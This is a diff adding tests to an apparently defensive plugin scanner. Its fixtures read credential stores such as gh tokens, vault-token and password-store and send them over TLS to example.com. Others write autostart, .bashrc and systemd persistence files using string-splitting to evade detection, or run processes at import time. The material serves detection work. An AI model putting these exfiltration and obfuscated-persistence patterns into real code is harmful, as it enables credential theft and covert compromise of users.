@@ -81,6 +81,34 @@ test('secrets read in one file and the network reached in another are high toget
 	assert.equal(alone.findings.filter((f) => f.ruleId === 'secrets-and-network').length, 0);
 });
 
+test('service tokens and desktop password stores are secrets, and with the network high', async () => {
+	for (const place of [
+		'/.config/gh/hosts.yml',
+		'~/.config/hub',
+		'~/.vault-token',
+		'~/.config/rclone/rclone.conf',
+		'~/.local/share/keyrings/login.keyring',
+		'~/.password-store/',
+		'~/.cargo/credentials.toml',
+		'~/.purple/accounts.xml',
+	]) {
+		const report = await scan(
+			plugin({
+				'MANIFEST.toml': MANIFEST('[capabilities]\nnetwork = true\nfilesystem_read = true\n'),
+				'index.js': `const fs = require('fs');\nconst os = require('os');\nconst tls = require('tls');\nexports.go = () => tls.connect(443, 'example.com', {}, () => 0).end(fs.readFileSync(os.homedir() + '${place}'));\n`,
+			}),
+		);
+		assert.ok(high(report).includes('secrets-and-network'), `${place}: ${high(report).join()}`);
+	}
+	const honest = await scan(
+		plugin({
+			'MANIFEST.toml': MANIFEST('[capabilities]\nnetwork = true\nfilesystem_read = true\n'),
+			'index.js': `const fs = require('fs');\nconst tls = require('tls');\nexports.go = () => tls.connect(443, 'example.com', {}, () => 0).end(fs.readFileSync('/etc/hosts'));\n`,
+		}),
+	);
+	assert.deepEqual(high(honest), []);
+});
+
 test('secrets sent through the host’s own web service are still secrets with network', async () => {
 	const report = await scan(
 		plugin({
@@ -117,6 +145,49 @@ for (const [place, target] of PERSISTENCE) {
 		assert.ok(high(report).includes('persistence-write'), `${place}: ${high(report).join()}`);
 	});
 }
+
+const SPELLED_IN_PIECES: [string, string][] = [
+	[
+		'autostart, as a sum of literals',
+		'os.path.join(os.path.expanduser("~"), ".config", "auto" + "start", "h.desktop")',
+	],
+	['a shell start-up file, after an unknown piece', 'os.path.expanduser("~") + "/.ba" + "shrc"'],
+	['a systemd unit, in parentheses', '"~/.config/" + ("sys" + "temd") + "/user/h.service"'],
+];
+
+for (const [place, target] of SPELLED_IN_PIECES) {
+	test(`a persistence location spelled in pieces is still one: ${place}`, async () => {
+		const report = await scan(
+			plugin({
+				'__init__.py': `import os\n\n\ndef enable(api):\n    target = ${target}\n    with open(target, "a") as out:\n        out.write("x")\n`,
+				'MANIFEST.toml': MANIFEST('[capabilities]\nfilesystem_write = true\n'),
+			}),
+		);
+		assert.ok(high(report).includes('persistence-write'), `${place}: ${high(report).join()}`);
+	});
+}
+
+test('a persistence location spelled in pieces in JS is still one', async () => {
+	const report = await scan(
+		plugin({
+			'index.js':
+				"const fs = require('fs');\nconst os = require('os');\nexports.go = () => fs.writeFileSync(os.homedir() + '/.config/auto' + 'start/x.desktop', 'x');\n",
+			'MANIFEST.toml': MANIFEST('[capabilities]\nfilesystem_write = true\n'),
+		}),
+	);
+	assert.ok(high(report).includes('persistence-write'), high(report).join());
+});
+
+test('pieces are not joined across an unknown value', async () => {
+	const report = await scan(
+		plugin({
+			'__init__.py':
+				'import os\n\n\ndef save(name, data):\n    with open("covers/auto" + name + "start.jpg", "wb") as out:\n        out.write(data)\n',
+			'MANIFEST.toml': MANIFEST('[capabilities]\nfilesystem_write = true\n'),
+		}),
+	);
+	assert.deepEqual(high(report), []);
+});
 
 test('a Windows run key set through winreg is a persistence write', async () => {
 	const report = await scan(
@@ -250,6 +321,52 @@ test('a process started or code run at import time is high; the same inside enab
 	// Handing os.system to map stays a hidden path wherever it is (hidden-callable); what
 	// enable() changes is that nothing counts as run at import time.
 	assert.deepEqual(high(inEnable), ['hidden-callable']);
+});
+
+test('a helper called, decorated with or started on a thread at module level runs at import', async () => {
+	const declared = MANIFEST('[capabilities]\nsubprocess = true\nnetwork = true\n');
+	const samples: Record<string, string>[] = [
+		{
+			'__init__.py':
+				'import subprocess\n\n\ndef _setup():\n    subprocess.Popen(["helper"])\n\n\n_setup()\n',
+		},
+		{
+			'__init__.py':
+				'import subprocess\n\n\ndef _inner():\n    subprocess.Popen(["helper"])\n\n\ndef _outer():\n    _inner()\n\n\n_outer()\n',
+		},
+		{
+			'__init__.py':
+				'import threading\nimport urllib.request\n\n\ndef _worker():\n    urllib.request.urlopen("https://example.com/x")\n\n\nthreading.Thread(target=_worker, daemon=True).start()\n',
+		},
+		{
+			'__init__.py':
+				'import os\n\n\ndef hook(f):\n    os.system("helper")\n    return f\n\n\n@hook\ndef process(api, track, metadata):\n    pass\n',
+		},
+		{
+			'index.js':
+				"const cp = require('child_process');\nfunction setup() {\n  cp.execFile('helper');\n}\nsetup();\n",
+		},
+		{
+			'index.js':
+				"const cp = require('child_process');\nconst later = () => {\n  cp.execFile('helper');\n};\nsetTimeout(later, 10);\n",
+		},
+	];
+	for (const files of samples) {
+		const report = await scan(plugin({ ...files, 'MANIFEST.toml': declared }));
+		assert.ok(
+			high(report).includes('import-time-side-effect'),
+			`${Object.values(files)[0]}: ${high(report).join()}`,
+		);
+	}
+	// Registered for the host to call later, or called from enable(): not at import.
+	const honest = await scan(
+		plugin({
+			'__init__.py':
+				'import subprocess\nfrom picard.metadata import register_track_metadata_processor\n\n\ndef _tag(api, track, metadata):\n    subprocess.run(["helper"])\n\n\ndef _noop():\n    return 1\n\n\ndef _setup():\n    subprocess.run(["helper"])\n\n\n_noop()\nregister_track_metadata_processor(_tag)\n\n\ndef enable(api):\n    _setup()\n',
+			'MANIFEST.toml': declared,
+		}),
+	);
+	assert.deepEqual(high(honest), []);
 });
 
 test('an introspection escape from a literal or an imported object is high; the module’s own is medium', async () => {
